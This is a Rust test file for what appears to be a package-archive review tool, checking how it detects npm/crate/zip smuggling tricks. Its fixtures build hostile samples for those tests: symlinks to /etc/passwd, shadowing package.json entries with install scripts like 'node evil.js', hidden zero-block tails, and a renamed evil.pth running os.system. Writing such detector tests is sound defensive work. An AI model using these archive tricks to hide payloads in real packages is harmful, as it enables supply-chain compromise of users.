            t.file("package/index.js", b"real();\n")
                .link("package/index.js", flag::SYMLINK, "/etc/passwd")
                .link("package/h", flag::HARDLINK, "package/index.js");
        }),
    );
    let real = &a.entries[1];
    let sym = &a.entries[2];
    let hard = &a.entries[3];
    assert!(!sym.installed, "pacote's filter drops SymbolicLink entries");
    assert!(!hard.installed, "pacote's filter drops Link entries");
    assert!(
        real.installed,
        "a skipped link does not shadow the file before it"
    );
    assert_one(&a, AnomalyKind::Symlink, sym, "symlink to /etc/passwd");
    assert_one(
        &a,
        AnomalyKind::Hardlink,
        hard,
        "hard link to package/index.js",
    );
    let dup = anomalies(&a, AnomalyKind::DuplicatePath);
    assert!(
        dup.iter()
            .all(|(_, d)| !d.contains("this later entry is the one installed")),
        "no message claims the skipped link is installed: {dup:?}"
    );
}

#[test]
fn links_in_a_crate_stay_installed() {
    let mut t = Tar::new();
    t.file(
        "c-0.1.0/Cargo.toml",
        b"[package]\nname = \"c\"\nversion = \"0.1.0\"\n",
    )
    .file("c-0.1.0/Cargo.toml.orig", b"")
    .link("c-0.1.0/src", flag::SYMLINK, "/");
    let (_dir, a) = fixture("c-0.1.0.crate", &gzip(&t.finish()));
    assert_eq!(a.format, Format::Crate);
    assert!(
        entry(&a, "src").installed,
        "cargo unpacks symlinks, so the link is reviewed as installed"
    );
}

#[test]
fn a_loose_file_before_the_root_does_not_hide_the_package() {
    // npm strips the first component of every name: `README` becomes nothing and is not
    // written, `package/package.json` becomes `package.json`.
    let mut t = Tar::new();
    t.file("README", b"decoy")
        .file(
            "package/package.json",
            br#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"sh x"}}"#,
        )
        .file("package/x", b"payload");
    let (_dir, a) = fixture("loose.tgz", &gzip(&t.finish()));
    assert_eq!(
        a.format,
        Format::NpmTarball,
        "package.json is found: {:?}",
        paths(&a)
    );
    assert_eq!(a.root.as_deref(), Some("package"));
    assert_eq!(paths(&a), ["README", "package.json", "x"]);
    let loose = &a.entries[0];
    assert!(
        !loose.installed,
        "nothing is left of README once the root is stripped"
    );
    assert_one(&a, AnomalyKind::OutsideRoot, loose, "README");
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("preinstall"))
            .map(String::as_str),
        Some("sh x"),
        "the install script is visible to review"
    );
}

#[test]
fn a_flat_tar_keeps_its_names() {
    let mut t = Tar::new();
    t.file("a.txt", b"a").file("b.txt", b"b");
    let (_dir, a) = fixture("flat.tar", &t.finish());
    assert_eq!(a.root, None, "no single root folder");
    assert_eq!(paths(&a), ["a.txt", "b.txt"]);
    assert!(a.entries.iter().all(|e| e.installed), "{:?}", a.entries);
    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
}

#[test]
fn a_dot_root_is_stripped_as_node_tar_does() {
    // `tar czf x.tgz -C dir .` stores `./`, `./package.json`, `./lib/a.js`.
    let mut t = Tar::new();
    t.dir("./")
        .file("./package.json", br#"{"name":"dot","version":"1.0.0"}"#)
        .dir("./lib/")
        .file("./lib/a.js", b"a");
    let (_dir, a) = fixture("dot.tgz", &gzip(&t.finish()));
    assert_eq!(a.root.as_deref(), Some("."));
    assert_eq!(paths(&a), ["package.json", "lib", "lib/a.js"]);
    assert_eq!(a.format, Format::NpmTarball);
    assert!(a.anomalies.is_empty(), "{:?}", a.anomalies);
}

#[test]
fn a_zip_behind_a_prepended_stub_is_refused() {
    // A self-extracting-style zip: the content is sniffed from the first bytes, so a stub in
    // front makes it "not an archive" (exit 2) rather than a zip read at shifted offsets.
    let zip = Zip::new()
        .file("a.txt", b"first")
        .file("a.txt", b"second")
        .finish();
    let mut bytes = b"#!/bin/sh\nexit 0\n".repeat(4);
    bytes.extend_from_slice(&zip);
    let err = error_of("stub.zip", &bytes, Limits::default());
    assert!(err.contains("stub.zip: not a package archive"), "{err}");
}

#[test]
fn zip_duplicate_records_survive_mangling_without_panics() {
    let zip = Zip::new()
        .file("x.py", b"print(1)\n")
        .symlink("x.py", "/etc/passwd")
        .file("x.py", &[b'z'; 4000])
        .finish();
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..400 {
        let mut m = zip.clone();
        for _ in 0..=(next() % 4) {
            let at = (next() as usize) % m.len();
            m[at] = next() as u8;
        }
        if let Err(e) = read_bytes("dup.zip", &m, &Options::default(), None) {
            let msg = format!("{e:#}");
            assert!(msg.starts_with("dup.zip: "), "{msg}");
        }
    }
}

#[test]
fn a_gnu_sparse_hole_counts_against_the_unpacked_cap() {
    // 512 stored bytes that read back as 1 GiB: the cap is about what unpacks, not what is
    // stored, or a sparse "bomb" costs minutes of hashing (or all memory when kept).
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.bytes.extend_from_slice(&common::gnu_sparse(
        "package/sparse.bin",
        &[1u8; 512],
        1 << 30,
    ));
    let err = error_of(
        "sparse.tgz",
        &gzip(&t.finish()),
        Limits {
            max_unpacked: 16 << 20,
            ..Limits::default()
        },
    );
    assert!(
        err.contains("unpacks to more than 16777216 bytes"),
        "a sparse entry is refused past the cap: {err}"
    );
}

#[test]
fn a_small_gnu_sparse_file_reads_with_its_holes() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.bytes
        .extend_from_slice(&common::gnu_sparse("package/sparse.bin", &[1u8; 512], 4096));
    let (_dir, a) = fixture("sparse.tgz", &gzip(&t.finish()));
    let e = entry(&a, "sparse.bin");
    assert_eq!(e.kind, EntryKind::File);
    assert_eq!(e.size, 4096, "holes read as zeros");
    let mut full = vec![0u8; 3584];
    full.extend_from_slice(&[1u8; 512]);
    assert_eq!(e.sha256.as_deref(), Some(sha256_hex(&full).as_str()));
}

#[test]
fn setuid_bits_are_kept_in_modes() {
    let mut suid = ZipRecord::file("bin/tool", b"#!/bin/sh\n");
    suid.unix_mode = Some(0o104_755);
    let (_d1, z) = fixture("suid.zip", &Zip::new().record(suid).finish());
    assert_eq!(
        z.entries[0].mode, 0o104_755,
        "setuid is visible in a zip entry's mode"
    );
    let mut t = Tar::new();
    t.file_mode("package/bin/tool", b"#!/bin/sh\n", 0o4755);
    let (_d2, a) = fixture("suid.tgz", &gzip(&t.finish()));
    assert_eq!(
        a.entries[0].mode & 0o7777,
        0o4755,
        "setuid is visible in a tar entry's mode"
    );
}

#[test]
fn a_single_zero_block_does_not_end_the_archive_as_npm_reads_it() {
    // node-tar ends an archive at two consecutive zero blocks; one is skipped. Stopping at
    // the first would hide everything after it from review while npm installs it.
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    );
    t.bytes.extend_from_slice(&[0u8; 512]);
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0","scripts":{"install":"node evil.js"}}"#,
    )
    .file("package/evil.js", b"steal()");
    let (_dir, a) = fixture("zero-block.tgz", &gzip(&t.finish()));
    assert_eq!(
        paths(&a),
        ["package.json", "package.json", "evil.js"],
        "entries after a lone zero block are read"
    );
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("install"))
            .map(String::as_str),
        Some("node evil.js"),
        "the installed package.json is the later one"
    );
}

#[test]
fn nothing_after_the_end_marker_is_listed() {
    let mut t = Tar::new();
    t.file(
        "package/package.json",
        br#"{"name":"demo","version":"1.0.0"}"#,
    );
    let mut bytes = t.finish();
    let mut after = Tar::new();
    after.file("package/ignored.js", b"npm never reads this");
    bytes.extend_from_slice(&after.finish());
    let (_dir, a) = fixture("after-end.tgz", &gzip(&bytes));
    assert_eq!(
        paths(&a),
        ["package.json"],
        "two zero blocks end the archive, as in node-tar"
    );
    assert_eq!(
        a.packed_size,
        gzip(&bytes).len() as u64,
        "the whole file is still hashed"
    );
}

#[test]
fn ustar_prefix_field_is_part_of_the_name() {
    let mut h = common::header(b"file.js", flag::FILE, 2, b"", 0o644);
    h[345..345 + 21].copy_from_slice(b"package/very/long/dir");
    common::fix_checksum(&mut h);
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.bytes.extend_from_slice(&h);
    t.bytes.extend_from_slice(b"ok");
    t.bytes.resize(t.bytes.len() + 510, 0);
    let (_dir, a) = fixture("prefix.tgz", &gzip(&t.finish()));
    assert_eq!(
        paths(&a),
        ["package.json", "very/long/dir/file.js"],
        "prefix/name joined"
    );
}

#[test]
fn a_global_pax_size_or_linkpath_is_refused() {
    // node-tar applies these to every later entry; the tar crate ignores global headers, so
    // the two would disagree on what the archive holds.
    for (key, value) in [("size", "0"), ("linkpath", "/etc/passwd")] {
        let record = format!(" {key}={value}\n");
        let body = format!("{} {key}={value}\n", record.len() + 2);
        let mut t = Tar::new();
        t.file("package/package.json", b"{}");
        t.raw(b"GlobalHead", b'g', body.len() as u64, body.as_bytes(), b"");
        t.file("package/a.js", b"console.log(1)");
        let err = error_of("global.tgz", &gzip(&t.finish()), Limits::default());
        assert!(
            err.contains(&format!("a pax global header sets '{key}'")),
            "{key}: {err}"
        );
    }
    // A harmless global header (a comment) is read as before.
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.raw(b"GlobalHead", b'g', 13, b"13 comment=x\n", b"");
    t.file("package/a.js", b"1");
    let (_dir, a) = fixture("global-ok.tgz", &gzip(&t.finish()));
    assert_eq!(paths(&a), ["package.json", "a.js"]);
}

#[test]
fn a_gnu_long_name_ends_at_its_first_nul_as_in_node_tar() {
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    t.gnu_long_name(b"package/shown.js\0package/hidden-tail.js", b"1");
    let (_dir, a) = fixture("nul.tgz", &gzip(&t.finish()));
    assert_eq!(
        a.entries[1].path, "shown.js",
        "the name npm uses is the part before the NUL"
    );
}

#[test]
fn a_dotdot_root_is_stripped_and_the_entry_installed() {
    // node-tar strips the first piece before it looks for '..': `../package.json` installs
    // as `package.json` and, coming later, replaces the reviewed one.
    let (_dir, a) = fixture(
        "dotdot-root.tgz",
        &npm_with(|t| {
            t.file(
                "../package.json",
                br#"{"name":"evil","version":"6.6.6","scripts":{"postinstall":"sh x"}}"#,
            );
        }),
    );
    let e = &a.entries[1];
    assert_eq!(e.path, "package.json");
    assert!(
        e.installed,
        "nothing is left to climb once the root is stripped"
    );
    assert!(
        !a.entries[0].installed,
        "the earlier package.json is shadowed"
    );
    assert_one(
        &a,
        AnomalyKind::PathTraversal,
        e,
        "starts with '..', which the installer strips",
    );
    assert_eq!(
        a.package
            .as_ref()
            .and_then(|m| m.scripts.get("postinstall"))
            .map(String::as_str),
        Some("sh x"),
        "the metadata under review is the installed one"
    );
}

#[test]
fn a_unicode_path_extra_field_that_renames_an_entry_is_refused() {
    // pip (Python's zipfile) writes `evil.pth` (run at every interpreter start); the zip
    // crate would show `README.txt`. Installers disagree, so the archive is refused.
    let mut r = ZipRecord::file("evil.pth", b"import os; os.system('id')\n");
    r.extra = common::unicode_path_extra(b"evil.pth", "README.txt");
    let bytes = Zip::new().file("w/__init__.py", b"").record(r).finish();
    let err = error_of("renamed.whl", &bytes, Limits::default());
    assert!(
        err.contains("renamed.whl: corrupt zip: entry 1: a Unicode Path extra field renames evil.pth to README.txt"),
        "{err}"
    );
    // The same field naming the entry by its own name is harmless (Info-ZIP writes that).
    let mut same = ZipRecord::file("docs/café.txt", b"ok");
    same.extra = common::unicode_path_extra("docs/café.txt".as_bytes(), "docs/café.txt");
    let (_dir, a) = fixture("same.zip", &Zip::new().record(same).finish());
    assert_eq!(paths(&a), ["docs/café.txt"]);
}

#[test]
fn a_central_directory_with_more_records_than_its_end_record_counts_is_refused() {
    let mut bytes = Zip::new()
        .file("a.txt", b"a")
        .file("hidden.pth", b"x")
        .finish();
    let eocd = bytes.len() - 22;
    bytes[eocd + 8..eocd + 12].copy_from_slice(&[1, 0, 1, 0]);
    let err = error_of("count.zip", &bytes, Limits::default());
    assert!(err.contains("count.zip: corrupt zip"), "{err}");
}
